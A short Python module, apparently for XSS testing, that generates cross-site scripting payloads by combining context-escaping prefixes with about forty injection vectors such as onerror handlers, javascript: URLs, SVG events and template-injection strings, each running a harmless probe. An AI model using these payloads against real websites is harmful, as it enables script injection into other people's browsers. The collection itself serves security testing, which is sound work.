"""Markup that would run a probe if it were taken for markup: each way in, after each way out of where it stands."""

from __future__ import annotations

from collections.abc import Iterator
from itertools import product

PROBE = "window.__pwn=1"

WAYS_OUT = ("", '">', "'>", "-->", "</span>", "</td>", "</dd>", "</title>", "</style>", "</script>", "</code>", "]]>")
WAYS_IN = r"""
<script>P</script>
<ScRiPt >P</sCrIpT>
<script/x>P</script>
<script>P//
<<script>P//<</script>
<img src=x onerror=P>
<img src=x onerror='P'>
<img src=x onerror="P">
<img/src/onerror=P>
<svg onload=P>
<svg/onload=P>
<svg><script>P</script></svg>
<svg><animate onbegin=P attributeName=x>
<body onload=P>
<iframe srcdoc='<script>parent.P</script>'>
<iframe src=javascript:parent.P>
<object data=javascript:P>
<embed src=javascript:P>
<a href=javascript:P id=x>x</a>
<details open ontoggle=P>
<video src=x onerror=P>
<audio src=x onerror=P>
<input autofocus onfocus=P>
<select autofocus onfocus=P>
<textarea autofocus onfocus=P>
<marquee onstart=P>
<form><button formaction=javascript:P>
<math><mtext><img src=x onerror=P></math>
<style>@import'javascript:P'</style>
<link rel=import href=data:,P>
<meta http-equiv=refresh content='0;url=javascript:P'>
<base href=javascript:P//>
 onmouseover=P x=
" autofocus onfocus=P x="
' autofocus onfocus=P x='
javascript:P
data:text/html,<script>P</script>
{{constructor.constructor('P')()}}
${P}
&lt;script&gt;P&lt;/script&gt;
&#60;img src=x onerror=P&#62;
<noscript><p title='</noscript><img src=x onerror=P>'>
""".strip("\n").split("\n")


def markup_payloads() -> Iterator[str]:
    return (out + way.replace("P", PROBE) for out, way in product(WAYS_OUT, WAYS_IN))
